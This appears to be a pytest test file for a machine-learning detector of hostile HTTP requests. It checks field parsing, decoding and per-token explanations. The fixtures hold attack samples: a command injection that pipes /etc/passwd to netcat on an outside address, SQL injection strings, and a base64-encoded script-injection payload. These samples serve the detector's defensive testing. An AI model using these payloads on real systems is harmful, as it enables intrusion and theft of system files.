"""`python -m webtorch.detect explain`: fields of a request, tokens, and what they weigh."""

import subprocess
import sys

import pytest
import torch

from fields import row
from webtorch.detect import FieldClassifier
from webtorch.detect._explain import explain, parse, request_of
from webtorch.detect._reading import Request, read

JSON = b"""POST /api?page=2 HTTP/1.1\r
Host: example.com\r
content-type: application/json\r
\r
{"user": {"name": "x; cat /etc/passwd | nc 10.0.0.1 99"}, "text": "all is well", "n": 7}"""


@pytest.fixture(scope="module")
def shipped() -> FieldClassifier:
    return FieldClassifier.pretrained()


def test_numbers_are_those_of_the_features(library):
    request = parse(JSON)
    found = read(request)
    numbers, windows = row(library, b"POST", b"/api?page=2", request.headers, request.body)
    assert found.numbers[0].tolist() == numbers
    assert found.windows[0].tolist() == windows
    names = [each.name for each in found.fields]
    assert names == ["path", "header.host", "header.content-type", "body.user.name", "body.text"]
    assert found.fields[3].value == b"x; cat /etc/passwd | nc 10.0.0.1 99"
    for field in found.fields:
        inside = found.windows[0] == field.window
        spans = {tuple(each) for each in found.spans[inside].tolist() if each[1]}
        # the tokens of a short value are all of it
        assert sum(length for _, length in spans) == len(field.value), field


def test_decodings_and_faults_are_named():
    request = Request(b"GET", b"/?a=%2527%20or&b=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D")
    about = {each.name: each.about for each in read(request).fields}
    assert about["query.a"] == ["percent again"]
    assert about["query.b"] == ["base64"]
    broken = Request(b"POST", b"/", [(b"Content-Type", b"application/json")], b'{"a": "b')
    assert read(broken).flaws
    deep = Request(b"POST", b"/", [(b"Content-Type", b"application/json")], b"[" * 100)
    assert read(deep).unread == ["depth"]


def test_worst_field_comes_first(shipped):
    lines = list(explain(shipped, parse(JSON)))
    assert lines[0] == "POST /api?page=2"
    assert "deny, cmdi in body.user.name" in lines[1]
    assert lines[3].startswith("body.user.name (JSON): logit +")
    assert lines[4] == "  x; cat /etc/passwd | nc 10.0.0.1 99"
    tokens = {line.split()[-1]: float(line.split()[0]) for line in lines[5:12]}
    assert tokens["etc"] > 1
    logits = [float(line.split("logit ")[1].split(",")[0]) for line in lines if "logit" in line]
    assert logits == sorted(logits, reverse=True)
    assert len(list(explain(shipped, parse(JSON), most=1))) < len(lines)
    assert "allow" in list(explain(shipped, parse(JSON), threshold=1.1))[1]


def test_weights_are_those_of_the_logit(shipped):
    found = read(parse(JSON))
    with torch.no_grad():
        logits, weights = shipped.explain(found.numbers, found.windows)
    assert len(weights) == len(found.spans)
    assert logits.argmax() == found.fields[3].window


def test_request_that_is_not_read(shipped):
    deep = Request(b"POST", b"/?id=1%27+or+1%3D1--", [(b"Content-Type", b"text/plain")], b"[" * 100)
    lines = list(explain(shipped, deep))
    assert "not all is read (depth): if the rest is not denied, it goes by on_unread" in lines
    assert any("deny" in each for each in lines)


@pytest.mark.parametrize(
    ("data", "target", "body"),
    [
        (b"GET /a?b HTTP/1.1\nHost: x\n\n", b"/a?b", b""),
        (b"\r\nGET /a\r\n", b"/a", b""),
        (
            b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"3\r\nabc\r\n2;x\r\nde\r\n0\r\n\r\n",
            b"/",
            b"abcde",
        ),
    ],
    ids=["line feeds", "no headers", "chunks"],
)
def test_messages(data, target, body):
    request = parse(data)
    assert (request.target, request.body) == (target, body)


@pytest.mark.parametrize("data", [b"", b"GET", b"GET / HTTP/1.1\r\nno header\r\n\r\n", b"\0 / x"])
def test_malformed_messages(data):
    with pytest.raises(ValueError, match=r"the first line is not|this line is not a header"):
        parse(data)


def test_command(tmp_path):
    file = tmp_path / "request"
    file.write_bytes(JSON)
    assert request_of("http://u:p@example.com:81?a=b") == Request(
        b"GET", b"/?a=b", [(b"Host", b"example.com:81")]
    )
    command = [sys.executable, "-m", "webtorch.detect", "explain"]

    def run(*arguments: str, data: bytes = b"") -> "subprocess.CompletedProcess[bytes]":
        return subprocess.run([*command, *arguments], input=data, capture_output=True)

    of_file, of_input = run(str(file)), run("-", data=JSON)
    assert of_file.returncode == of_input.returncode == 0
    assert of_file.stdout == of_input.stdout
    assert b"body.user.name" in of_file.stdout
    missing = run(str(tmp_path / "none"))
    assert missing.returncode == 2
    assert b"No such file" in missing.stderr
